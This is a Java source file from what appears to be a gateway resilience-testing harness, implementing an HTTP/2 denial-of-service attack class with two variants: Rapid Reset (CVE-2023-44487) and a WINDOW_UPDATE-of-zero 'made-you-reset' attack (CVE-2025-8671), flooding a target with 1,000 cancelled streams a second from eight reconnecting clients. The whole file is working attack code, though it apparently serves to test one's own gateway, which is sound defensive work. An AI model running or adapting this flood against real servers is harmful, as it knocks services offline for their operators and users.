package dev.opportune.perf.attack.http2;

import dev.opportune.perf.attack.Attack;
import dev.opportune.perf.attack.Crowd;
import dev.opportune.perf.attack.Pace;
import dev.opportune.perf.attack.Target;
import dev.opportune.perf.attack.wire.Frame;
import dev.opportune.perf.attack.wire.Http2;
import java.io.IOException;
import java.util.concurrent.atomic.LongAdder;

/// Requests that end as soon as they are made, so that they never count as open: over and over, on new connections when
/// the gateway ends the old ones.
public final class Resets implements Attack {

    private static final int CLIENTS = 8;
    private static final int STREAMS_A_SECOND = 1_000;
    private static final int AT_ONCE = 20;
    private static final long RECONNECT_MILLIS = 20;
    private static final int CANCEL = 8;

    private final String name;
    private final String what;
    private final Frame frame;
    private final byte[] payload;

    private Resets(String name, String what, Frame frame, byte[] payload) {
        this.name = name;
        this.what = what;
        this.frame = frame;
        this.payload = payload;
    }

    /// By the client itself (CVE-2023-44487).
    public static Resets rapid() {
        return new Resets("rapid-reset", "each followed by its RST_STREAM", Frame.RST_STREAM, Frame.int32(CANCEL));
    }

    /// By the server, whom a WINDOW_UPDATE of 0 makes do it (CVE-2025-8671).
    public static Resets made() {
        return new Resets(
                "made-you-reset", "each followed by a WINDOW_UPDATE of 0", Frame.WINDOW_UPDATE, Frame.int32(0));
    }

    @Override
    public String name() {
        return name;
    }

    @Override
    public String what() {
        return "8 clients, 1,000 GETs a second each, " + what + ", reconnecting; no key";
    }

    @Override
    public void run(Target target) throws InterruptedException {
        var streams = new LongAdder();
        var connections = new LongAdder();
        int _ = Crowd.run(target, CLIENTS, _ -> {
            while (!target.isOver()) {
                try (var http2 = target.http2()) {
                    connections.increment();
                    reset(target, http2, streams);
                } catch (IOException _) {
                    // the next one
                }
                Thread.sleep(RECONNECT_MILLIS);
            }
        });
        target.tell(streams.sum() + " streams on " + connections.sum() + " connections");
    }

    private void reset(Target target, Http2 http2, LongAdder streams) throws IOException, InterruptedException {
        var pace = Pace.perSecond((double) STREAMS_A_SECOND / AT_ONCE);
        while (!target.isOver() && !http2.isOver()) {
            pace.next();
            for (int i = 0; i < AT_ONCE; i++) http2.send(frame, 0, http2.get("/v1/events", ""), payload);
            http2.flush();
            streams.add(AT_ONCE);
        }
    }
}
